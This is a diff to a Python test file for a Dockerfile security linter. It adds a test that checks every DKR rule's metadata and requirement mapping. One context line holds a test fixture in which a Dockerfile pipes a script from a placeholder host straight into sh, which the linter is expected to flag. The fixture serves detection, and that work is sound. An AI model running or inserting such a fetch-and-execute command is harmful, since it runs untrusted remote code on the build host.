@@ -128,3 +128,19 @@ def test_exec_form_run_scripts_are_split_as_well() -> None:
 def test_onbuild_run_is_checked_at_the_onbuild_line() -> None:
     text = "FROM alpine:3.20\nONBUILD RUN curl -fsSL https://x.example/i.sh | sh\n"
     assert _lines(text, "DKR-014") == [2]
+
+
+def test_every_dkr_rule_is_complete_and_mapped_to_known_requirements() -> None:
+    from cnsmm.model import load_model
+    from cnsmm.rules import Scope, all_rules
+
+    known = set(load_model().requirements)
+    rules = [r for r in all_rules() if r.id.startswith("DKR-")]
+    assert len(rules) >= 35
+    for r in rules:
+        m = r.meta
+        assert m.scope == Scope.DOCKERFILE and m.targets == ("Dockerfile",), m.id
+        assert m.what.rstrip().endswith(".") and m.why.rstrip().endswith(".") and m.fix.rstrip().endswith("."), m.id
+        assert m.references and m.requirements, m.id
+        assert set(m.requirements) <= known, (m.id, set(m.requirements) - known)
+        assert m.bad.strip() != m.good.strip(), m.id
